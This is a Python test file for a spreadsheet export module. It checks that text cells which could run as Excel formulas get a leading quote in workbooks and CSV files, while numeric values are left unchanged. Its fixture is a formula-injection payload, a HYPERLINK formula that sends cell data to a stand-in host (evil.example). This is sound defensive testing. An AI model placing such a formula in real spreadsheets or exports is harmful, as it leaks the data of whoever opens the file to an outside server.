"""Spreadsheet formula injection: a text cell beginning with =, +, -, @, tab or CR must reach
Excel as text, in the workbook, the month's CSV files and the app's exports; numbers stay numbers."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from serving.store.scored_month import write_period
from serving.store.workbook import excel_safe, workbook_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


def hostile() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "entity_id": ["H1", "H2", "H3", "H4", "H5", "H6", "H7"],
            "region": [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "north"],
            "grade": pd.Categorical(["=1+1", "A", "A", "B", "B", "C", "D"]),
            "amount_at_risk": [-3.5, 0.0, 1.0, -1e9, 2.0, np.nan, 3.0],
            "rule_hits": [-1, 0, 1, 2, 3, 4, 5],
            "note": [None, "a - b", "=", "", "ok", "x=1", "'quoted"],
        }
    )


def test_text_cells_that_would_run_are_quoted_and_numbers_are_left_alone():
    frame = hostile()
    safe = excel_safe(frame)
    assert safe["region"].tolist() == ["'" + EVIL, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "north"]
    assert safe["grade"].tolist() == ["'=1+1", "A", "A", "B", "B", "C", "D"]
    assert pd.isna(safe["note"].iloc[0]) and safe["note"].tolist()[1:] == ["a - b", "'=", "", "ok", "x=1", "'quoted"]
    pd.testing.assert_series_equal(safe["amount_at_risk"], frame["amount_at_risk"])  # negative numbers stay numbers
    pd.testing.assert_series_equal(safe["rule_hits"], frame["rule_hits"])
    assert frame["region"].iloc[0] == EVIL  # the input is not changed
    clean = frame.drop(columns=["region", "grade", "note"])
    assert excel_safe(clean) is clean  # nothing to do, nothing copied


def test_the_workbook_has_no_formula_cell():
    book = load_workbook(io.BytesIO(workbook_bytes({"provider": hostile()})))
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    region = header.index("region") + 1
    assert sheet.cell(row=2, column=region).value == "'" + EVIL
    amount = sheet.cell(row=2, column=header.index("amount_at_risk") + 1)
    assert amount.value == -3.5 and amount.data_type == "n"


@pytest.mark.parametrize("prefix", list("=+-@\t\r"))
def test_every_dangerous_start_is_neutralised(prefix):
    frame = pd.DataFrame({"text": [prefix + "1+1"], "number": [-1.0]})
    assert excel_safe(frame)["text"].iloc[0] == "'" + prefix + "1+1"
    assert excel_safe(frame)["number"].iloc[0] == -1.0
    strings = pd.DataFrame({"text": pd.array([prefix + "x", None], dtype="string")})
    assert excel_safe(strings)["text"].iloc[0] == "'" + prefix + "x"


def test_the_months_csv_and_workbook_are_safe_and_the_parquet_keeps_the_value(tmp_path):
    target = write_period(tmp_path / "scores" / "2026-01", {"provider": hostile()}, {}, "<html></html>", {})
    csv = pd.read_csv(target / "providers.csv")
    assert csv["region"].iloc[0] == "'" + EVIL and csv["amount_at_risk"].iloc[0] == -3.5
    assert pd.read_parquet(target / "providers.parquet")["region"].iloc[0] == EVIL  # the record, as it was
    book = load_workbook(target / "inspection_list.xlsx")
    assert not [c.coordinate for row in book.worksheets[0].iter_rows() for c in row if c.data_type == "f"]
